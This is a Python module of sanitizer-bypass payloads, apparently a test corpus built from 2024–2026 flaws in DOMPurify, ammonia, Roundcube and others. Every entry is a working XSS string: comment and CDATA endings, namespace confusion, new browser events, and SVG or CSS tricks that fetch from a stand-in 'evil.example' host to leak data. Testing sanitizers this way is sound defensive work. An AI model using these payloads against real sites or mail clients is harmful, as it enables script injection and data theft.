"""What was found against sanitizers and webmail from 2024 to 2026, each as its class of mistake rather than as a copy.

Where it was met: DOMPurify 3.0.9 to 3.4 (depth, node flattening, template and comment scrubbing, raw text, cloned
content), ammonia 3.3.1 to 4.1.4 (RUSTSEC-2025-0071, RUSTSEC-2026-0193 and the SVG animations after it), Roundcube
1.6.12 to 1.7.4 (CSS variables, escapes, bare ampersands, animated styles, feImage), TYPO3 and .NET sanitizers
(comments and CDATA that end early), and what Chromium has learned to run meanwhile.
"""

# Comments, instructions and declarations that end sooner than they look.
ENDINGS = (
    "<! x><img src=x: onerror=alert(§)>-->",
    "<!-x><img src=x: onerror=alert(§)>-->",
    "<!x --><img src=x: onerror=alert(§)>",
    "<?x --><img src=x: onerror=alert(§)>?>",
    "<?x title='?><img src=x: onerror=alert(§)>'?>",
    "</ x --><img src=x: onerror=alert(§)>",
    "</?x><img src=x: onerror=alert(§)>",
    "<!--a b=--!><img src=x: onerror=alert(§)><!--c-->",
    "<!-- <!-- --!><img src=x: onerror=alert(§)> -->",
    "<!--\x00--><img src=x: onerror=alert(§)>",
    "<!doctype html system '><img src=x: onerror=alert(§)>'>",
    '<!doctype html public "" "><img src=x: onerror=alert(§)>">',
    "<![CDATA[ x><img src=x: onerror=alert(§)>]]>",
    "<svg><![CDATA[<!--]]></svg><img src=x: onerror=alert(§)>-->",
    "<math><![CDATA[><img src=x: onerror=alert(§)>]]></math><img src=x: onerror=alert(§)>",
    "<style\t>/*</style\t><img src=x: onerror=alert(§)>*/</style>",
    "<script></script\f><img src=x: onerror=alert(§)></script>",
    "<noscript><style></noscript\n><img src=x: onerror=alert(§)></style></noscript>",
    "<xmp title='</xmp><img src=x: onerror=alert(§)>'></xmp \n><img src=x: onerror=alert(§)>",
    "<noframes><style></noframes/x><img src=x: onerror=alert(§)></style></noframes>",
)

# Names and namespaces that one parser takes for something else than the next one.
CONFUSIONS = (
    "<math><annotation-xml encoding=text/html><style><img title='</style><img src=x: onerror=alert(§)>'></math>",
    "<math><annotation-xml encoding=TEXT/HTML x><p><style><!--</style><img src=x: onerror=alert(§)>--></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><xmp><b title='</xmp><img src=x: onerror=alert(§)>'>",
    "<svg><annotation-xml><foreignobject><style><!--</style><b title='--><img src=x: onerror=alert(§)>'></svg>",
    "<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a title='--><img src=x: onerror=alert(§)>",
    "<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc><style><b title='</style><img src=x: onerror=alert(§)>'></svg>",
    "<math><mtext><table><mglyph><style><math><table title='</table>'><img src=x: onerror=alert(§)></style></math>",
    "<svg><image><style><b title='</style><img src=x: onerror=alert(§)>'></image></svg>",
    "<svg><title><svg><style><b title='</style><img src=x: onerror=alert(§)>'></title></svg>",
    "<math><ms><malignmark><style><b title='</style><img src=x: onerror=alert(§)>'></ms></math>",
    "<svg><font color=x><img src=x: onerror=alert(§)></font></svg>",
    "<svg><head><img src=x: onerror=alert(§)></head></svg>",
    "<form><div></form><form><math><mi></form><form><mglyph><style><b title='</style><img src=x: onerror=alert(§)>'>",
    "<table><tr><td><a><table><tr><a onmouseover=alert(§)>x</a></table></td></tr></table>",
    "<p><table><xmp></table><img src=x: onerror=alert(§)></xmp><img src=x: onerror=alert(§)>",
    "<h2><a><h3><img src=x: onerror=alert(§)></a></h3></h2>",
    "<b><b><b><b><b><table><b onmouseover=alert(§)>x</table></b></b></b></b></b>",
    "<_x onmouseover=alert(§)><img src=x: onerror=alert(§)></_x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(§)</x:script><x-y onmouseover=alert(§)>x</x-y>",
    "<p x:onmouseover=alert(§) onmouseover=alert(§)>x</p>",
    "<p is='x onmouseover=alert(§)'>x</p><p onmouseover=alert(§)>x</p>",
    "<im\x00g src=x: onerror=alert(§)><img\x00 src=x: onerror=alert(§)><img src=x: onerror=alert(§)>",
    "<p ONMOUSEOVER=alert(§)>x</p>",
    "<p on\u017fubmit=x \u212aey=x onmouseover=alert(§)>x</p>",
)

# What browsers do with a page after it was parsed: cloned, shown, animated, asked for later.
LATER = (
    "<select><button><selectedcontent></selectedcontent></button><option selected><img src=x: onerror=alert(§)>",
    "<select><div><img src=x: onerror=alert(§)></div><option>x</select>",
    "<select><option><iframe srcdoc='<script>parent.alert(§)</script>'></iframe></select>",
    "<select><hr><legend><img src=x: onerror=alert(§)></legend></select>",
    "<p style=content-visibility:auto oncontentvisibilityautostatechange=alert(§)>x</p>",
    "<div style=overflow:scroll;height:9px onscrollend=alert(§) onscroll=alert(§) onmouseover=alert(§)>x</div>",
    "<p onscrollsnapchange=alert(§) onscrollsnapchanging=alert(§) onmouseover=alert(§)>x</p>",
    "<button interestfor=i§ onmouseover=alert(§)>x</button><div id=i§ popover oninterest=alert(§)>x</div>",
    "<button commandfor=k§ command=show-modal onmouseover=alert(§)>x</button><dialog id=k§ oncommand=alert(§)>",
    "<body onpagereveal=alert(§) onpageswap=alert(§) onload=alert(§)>",
    "<p onsecuritypolicyviolation=alert(§) onmouseover=alert(§)>x</p>",
    "<geolocation onpromptaction=alert(§) onmouseover=alert(§)>x</geolocation>",
    "<permission type=camera onpromptdismiss=alert(§) onmouseover=alert(§)>x</permission>",
    (
        "<div><template shadowrootmode=open shadowrootserializable shadowrootclonable><b onmouseover=alert(§)>x</b>"
        "<img src=x: onerror=alert(§)></template></div>"
    ),
    (
        "<div id=u§><?start name=u§>x<?end></div><template for=u§><img src=x: onerror=alert(§)></template>"
        "<img src=x: onerror=alert(§)>"
    ),
    "<svg><set attributeName=onmouseover to=alert(§) /><rect onmouseover=alert(§) width=9 height=9 /></svg>",
    (
        "<svg><rect width=9 height=9><animate attributeName=style to='fill:url(//h§.evil.example/a)' fill=freeze />"
        "</rect><image href=//h§.evil.example/b /></svg>"
    ),
    (
        "<svg><image width=9 height=9><animate attributeName=href values='//h§.evil.example/a;//h§.evil.example/b' />"
        "</image></svg>"
    ),
    (
        "<svg><a><animate attributeName=href from=x by=x to=javascript:alert(§) fill=freeze /><text y=9>x</text></a>"
        "<g onmouseover=alert(§)>x</g></svg>"
    ),
    "<svg><style>@import '//h§.evil.example/LEAK§';</style><animate attributeName=class to=x dur=1s /></svg>",
    "<a href=https://songmau.example target='§\n<b>x</b>'>x§</a>",
    "<img src='//h§.evil.example/?x=\n<p>x</p>",
    "<img src=//h§.evil.example/a sizes=auto srcset='//h§.evil.example/b 9w'><img src=//h§.evil.example/c>",
    "<link rel=compression-dictionary href=//h§.evil.example/a><img src=//h§.evil.example/b>",
    "<link rel=expect href=#x§ blocking=render><img src=//h§.evil.example/b>",
    (
        '<script type=speculationrules>{"prerender":[{"where":{"href_matches":"/*"}}],"x":"LEAK§"}</script>'
        "<img src=//h§.evil.example/b>"
    ),
)

# Styles that name an address without saying url( where somebody looks for it.
QUIET_STYLES = (
    "<p style='--a:url(//h§.evil.example/a);background:var(--a)'>x</p>",
    "<p style='--a:u;background:var(--b,url(//h§.evil.example/a))'>x</p>",
    '<p style="background:if(else: url(//h§.evil.example/a))">x</p><img src=//h§.evil.example/b>',
    (
        '<p title=1 style=\'--v:attr(title);background:image-set(if(style(--v:"1"): url(//h§.evil.example/a);'
        " else: url(//h§.evil.example/b)))'>x</p><img src=//h§.evil.example/c>"
    ),
    '<p style=\'background:image-set("//h§.evil.example/a" type("image/png"))\'>x</p>',
    "<p style='background:u&#92;72l(//h§.evil.example/a)'>x</p>",
    "<p style='background:\\75\\72\\6c(//h§.evil.example/a)'>x</p>",
    "<p style='color:red&amp;#59;background:url(//h§.evil.example/a)' onmouseover=alert(§)>x</p>",
    "<p style='color:red&#x26;#59;background&#58;url(//h§.evil.example/a)'>x</p><img src=//h§.evil.example/b>",
    "<p style='font-family:\"a;background:url(//h§.evil.example/a)\";background:url(//h§.evil.example/b)'>x</p>",
    "<p style='color:red;/*;*/background:url(//h§.evil.example/a);/*'>x</p>",
    "<p style='x:{};background:url(//h§.evil.example/a)'>x</p>",
    "<p style='@media all{background:url(//h§.evil.example/a)};background:url(//h§.evil.example/b)'>x</p>",
    "<p style='&{background:url(//h§.evil.example/a)};background:url(//h§.evil.example/b)'>x</p>",
    "<p style='offset-path:url(//h§.evil.example/a#x);background:url(//h§.evil.example/b)'>x</p>",
    "<p style='clip-path:url(//h§.evil.example/a#x)'>x</p>",
    "<p style='-webkit-mask:url(//h§.evil.example/a)'>x</p>",
    "<p style='-webkit-box-reflect:below 0 url(//h§.evil.example/a)'>x</p><img src=//h§.evil.example/b>",
    "<p style='background:URL(&#10;&quot;//h§.evil.example/a&quot;&#10;)'>x</p>",
    "<p style='background:url(//h§.evil.example./a)'>x</p>",
    (
        "<body background='//h§.evil.example/a);color:red' style='background:url(//h§.evil.example/b)'>x</body>"
        "<img src=//h§.evil.example/c>"
    ),
    "<table background=\"x');background:url('//h§.evil.example/a\"><tr><td>x</table><img src=//h§.evil.example/b>",
    (
        "<style>@property --a{syntax:'*';inherits:false;initial-value:url(//h§.evil.example/LEAK§)}"
        "*{background:var(--a)}</style>"
    ),
    "<style>@layer a{*{background:url(//h§.evil.example/LEAK§)}}</style>",
    "<style>@scope (body){p{background:url(//h§.evil.example/LEAK§)}}</style><p>x</p>",
    "<style>p{&:is(*){background:url(//h§.evil.example/LEAK§)}}</style><p>x</p>",
    "<style>@container style(--x){p{color:red}}*{background:url(//h§.evil.example/LEAK§)}</style>",
    "<font color='red;background:url(//h§.evil.example/a)' style='background:url(//h§.evil.example/b)'>x</font>",
    (
        "<td width='9;background:url(//h§.evil.example/a)' style='background:url(//h§.evil.example/b)'>x§</td>"
        "<img src=//h§.evil.example/c>"
    ),
)

RECENT = ENDINGS + CONFUSIONS + LATER + QUIET_STYLES

_INNER = "<style><b title='</style><img src=x: onerror=alert(§)>'></b></style>"
_CAPTION = f"<table><caption><svg><desc><table><caption></caption></table></desc>{_INNER}</svg></caption></table>"
# Deeper than a browser's own limit of 512 open elements, where it begins to put children beside their parents; a
# letter that has one of them is shown as plain text, so they travel by themselves.
DEEP = tuple(
    opening * count + inner + closing * count
    for opening, closing, count, inner in (
        ("<div>", "</div>", 506, _CAPTION),
        ("<b>", "</b>", 509, f"<svg>{_INNER}</svg><img src=x: onerror=alert(§)>"),
        ("<table><tr><td>", "</td></tr></table>", 170, f"<math><mtext>{_INNER}</mtext></math>{_CAPTION}"),
        ("<blockquote>", "</blockquote>", 600, "<img src=x: onerror=alert(§)><p onmouseover=alert(§)>x</p>"),
        ("<svg>", "</svg>", 520, f"<foreignObject>{_INNER}<img src=x: onerror=alert(§)></foreignObject>"),
        (
            "<font color=red>",
            "</font>",
            250,
            f"<form><math><mi></form><form>{_INNER}<img src=x: onerror=alert(§)>",
        ),
        ("<ul><li>", "</li></ul>", 255, f"<a><table><a></table>{_CAPTION}<img src=x: onerror=alert(§)></a>"),
        ("<x-y>", "</x-y>", 1000, "<img src=x: onerror=alert(§)>"),
    )
)
